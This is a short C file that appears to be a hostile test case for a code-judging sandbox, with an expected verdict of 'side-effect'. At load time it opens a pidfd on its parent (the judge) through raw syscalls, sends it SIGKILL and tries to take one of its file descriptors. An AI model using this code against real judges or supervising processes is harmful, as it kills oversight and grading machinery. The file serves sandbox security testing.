/* A handle of the judge's process carries the signal.
 * verdict: side-effect */
#include "hostile.h"
static void attack(void)
{
	int fd = (int)syscall(434, getppid(), 0);

	syscall(424, fd, SIGKILL, NULL, 0);
	syscall(438, fd, 3, 0);
}
AT_LOAD(f)
